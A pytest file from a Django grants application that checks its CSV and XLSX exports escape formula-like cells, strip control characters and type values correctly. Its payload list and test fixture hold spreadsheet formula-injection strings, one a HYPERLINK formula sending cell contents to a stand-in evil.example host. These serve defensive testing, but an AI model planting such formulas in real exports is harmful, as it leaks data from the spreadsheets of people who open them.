"""Issue 17, point 4 and red-team findings 3 and 8: every CSV and XLSX the system writes neutralises cells
that a spreadsheet would read as formulas, holds no control characters, and types its XLSX cells."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application
from core.spreadsheets import csv_cell
from tests.conftest import verify_second_factor

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1;2)", "-2+3", "@SUM(1+1)", "\tx", "\rx"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_cell_gets_an_apostrophe_in_csv(payload):
    assert csv_cell(payload) == "'" + payload


def test_plain_values_are_left_as_they_are():
    assert csv_cell("Espoo") == "Espoo" and csv_cell("049") == "049"
    assert csv_cell(Decimal("280500")) == "280500.00" and csv_cell(None) == ""
    assert csv_cell(dt.date(2022, 6, 15)) == "15.06.2022"
    assert csv_cell("Ctrl\x01\x0b\x1f rivi\nrivi\ttab") == "Ctrl rivi\nrivi\ttab"


@pytest.fixture
def hostile(published_2022):
    """A 2022 award whose texts an applicant could have typed: a formula and control characters."""
    espoo = Application.objects.get(call=published_2022, lead__code="049")
    Application.objects.filter(pk=espoo.pk).update(
        project_name='=HYPERLINK("http://evil.example/","Avaa")\x01\x0b',
        contact_name="@SUM(1+1)*cmd",
        summary="+SUM(1;2)",
    )
    return published_2022


def rows_of(response, delimiter=","):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_the_public_results_csv_and_xlsx(client, hostile):
    rows = rows_of(client.get(reverse("opendata:call-results-csv", kwargs={"slug": hostile.slug})))
    espoo = next(row for row in rows if row[0] == "049")
    assert espoo[2] == '\'=HYPERLINK("http://evil.example/","Avaa")'
    response = client.get(reverse("opendata:call-results-xlsx", kwargs={"slug": hostile.slug}))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    code, lead, project, _case, amount = cells["049"]
    assert code.data_type == "s" and code.value == "049"  # codes stay text
    assert project.data_type == "s" and project.value == '=HYPERLINK("http://evil.example/","Avaa")'
    assert project.quotePrefix  # shown as typed, never evaluated
    assert amount.data_type == "n" and amount.value == 280500


def test_the_treasury_export_survives_control_characters_and_types_its_cells(client, hostile):
    from accounts.models import Role
    from tests.factories import MembershipFactory, UserFactory

    official = UserFactory()
    MembershipFactory(user=official, organisation_id=1, role=Role.OFFICIAL)
    client.force_login(official)
    url = reverse("processing:treasury-export", kwargs={"slug": hostile.slug, "format": "xlsx"})
    response = client.get(url)
    assert response.status_code == 200  # was a 500: IllegalCharacterError
    sheet = load_workbook(io.BytesIO(response.content))["VA"]
    header = [cell.value for cell in sheet[1]]
    espoo = next(
        row
        for row in sheet.iter_rows(min_row=2)
        if row[header.index("avustusasiaVireillepanijaYhteisoNimi")].value == "Espoo"
    )
    cell = {name: espoo[index] for index, name in enumerate(header)}
    assert not any(c.data_type == "f" for c in espoo)
    assert (
        cell["avustusasiaVireillepanijaHenkiloNimi"].value == "@SUM(1+1)*cmd"
        and cell["avustusasiaVireillepanijaHenkiloNimi"].quotePrefix
    )
    assert cell["avustuspaatosPvm"].is_date and cell["avustuspaatosPvm"].value.date() == dt.date(2022, 6, 15)
    assert cell["avustuspaatosMyonnettyAvustus"].data_type == "n"
    text = rows_of(client.get(url.replace(".xlsx", ".csv")), delimiter=";")
    espoo_csv = next(row for row in text if "Espoo" in row)
    assert all(not value.startswith(("=", "+", "-", "@")) for value in espoo_csv)


def test_the_worklist_and_follow_up_csvs(client, submitted_case, people):
    Application.objects.filter(pk=submitted_case.pk).update(project_name="=1+1")
    client.force_login(people["official"])
    verify_second_factor(client, people["official"])
    rows = rows_of(client.get(reverse("processing:worklist-csv", kwargs={"slug": submitted_case.call.slug})))
    assert rows[1][1] == "'=1+1"
